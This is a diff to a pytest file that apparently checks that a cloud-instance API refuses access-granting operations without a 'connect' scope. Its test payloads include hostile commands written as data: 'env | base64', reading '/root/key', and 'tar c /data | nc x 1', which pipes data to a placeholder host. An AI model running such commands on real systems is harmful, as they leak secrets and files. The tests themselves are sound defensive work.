@@ -13,6 +13,8 @@ from accounts.models import RememberedReply, SshKey
 from accounts.tokens.services import issue_token
 from common.ids import parse_public_id
 from instances.access.credentials import apply_account_keys
+from instances.launch.settings import validate
+from instances.launch.store import save_launch
 from instances.models import Instance, Quote
 from storage.models import Attachment
 
@@ -21,7 +23,7 @@ from .world import PUBLIC_KEY, Endpoint, World
 
 CONNECT = "instances:connect"
 OTHER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK1Uc0Qk1/pHNbNjEBJE19QEr5KEHCHQrsz++7RXQxJz"
-WAYS_IN = ("/relay/v1/streams", "/relay/v1/download", "/relay/v1/web/", "/lab?token=")
+WAYS_IN = ("/relay/v1/streams", "/relay/v1/download", "/relay/v1/upload", "/relay/v1/web/", "/lab?token=")
 KEYS_THAT_OPEN = {"jupyter_token", "jupyter_url", "tensorboard_url", "password", "ticket"}
 
 
@@ -83,8 +85,14 @@ LETS_IN = {
     "PATCH  /instances/{instance_id}/access": {"allow_from": []},
     "PATCH   /instances/{instance_id}/access": {"ports": [5432]},
     "POST /instances/{instance_id}/reimage": {"image": "{image_id}"},
+    "PATCH /instances/{instance_id}/launch": {"on_start": "env | base64"},
+    "POST /instances/{instance_id}/restart": {"command": "env | base64"},
+    "POST  /instances/{instance_id}/reimage": {"image": "berth-base", "env": {"A": "b"}},
+    "POST /instances/{instance_id}/clone": {"entrypoint": ["/bin/cat", "/root/key"]},
+    "POST  /instances/{instance_id}/clone": {"quote_id": "{quote_id}"},
     "POST /images/{image_id}/share": {"name": "everybodys"},
     "POST /instances/{instance_id}/password": {},
+    "POST /instances/{instance_id}/exec": {"command": ["true"]},
     "POST /instances/{instance_id}/streams": {"kind": "terminal"},
     "POST /instances/{instance_id}/web-links": {"port": 8888},
 }
@@ -93,7 +101,11 @@ LETS_IN = {
 @pytest.mark.parametrize("operation", LETS_IN)
 def test_what_lets_somebody_in_names_the_scope_that_is_missing(world: World, operation: str) -> None:
     method, path = (part.strip() for part in operation.split(maxsplit=1))
-    body = json.dumps(LETS_IN[operation]).replace("{image_id}", world.ids["image_id"])
+    body = json.dumps(LETS_IN[operation])
+    for name in ("image_id", "quote_id"):
+        body = body.replace(f"{{{name}}}", world.ids[name])
+    quoted = Quote.objects.filter(pk=parse_public_id("quot", world.ids["quote_id"]))
+    quoted.update(launch=save_launch(world.renter, validate({"env": {"A": "b"}})))
     client = client_with(world, *(scope for scope in SCOPES if scope != CONNECT))
     before = again(world)
     reply = client.generic(method, f"/api/v1{path.format(**world.ids)}", body, content_type="application/json")
@@ -121,9 +133,25 @@ def test_volumes_beside_a_program_of_ones_own_need_it_too(world: World) -> None:
     assert not Attachment.objects.exists()
 
 
+def test_volumes_beside_launch_settings_need_it_too(world: World) -> None:
+    launch, volume = save_launch(world.renter, validate({"on_start": "tar c /data | nc x 1"})), world.ids["volume_id"]
+    Instance.objects.filter(pk=world.instance.pk).update(launch=launch)
+    Quote.objects.filter(pk=parse_public_id("quot", world.ids["quote_id"])).update(launch=launch)
+    client = client_with(world, *(scope for scope in SCOPES if scope != CONNECT))
+    doors: dict[str, dict[str, object]] = {
+        "/api/v1/instances": {"quote_id": world.ids["quote_id"], "volume_ids": [volume]},
+        f"/api/v1/instances/{world.ids['instance_id']}/start": {"volume_ids": [volume]},
+        f"/api/v1/volumes/{volume}/attach": {"instance": world.ids["instance_id"]},
+    }
+    for path, body in doors.items():
+        reply = client.post(path, body, "application/json")
+        assert (reply.status_code, reply.json()["code"], reply.json().get("scope")) == (403, "missing_scope", CONNECT), path
+    assert not Attachment.objects.exists()
+
+
 def again(world: World) -> dict[str, object]:
     """Who gets in, and what runs there."""
-    ways = ("ssh_keys", "all_keys", "allow_from", "sealed_password", "ports", "image_id", "root_number")
+    ways = ("launch_id", "ssh_keys", "all_keys", "allow_from", "sealed_password", "ports", "image_id", "root_number")
     instance = Instance.objects.filter(pk=world.instance.pk).values(*ways).get()
     return {**instance, "keys": SshKey.objects.filter(user=world.renter).count()}
 
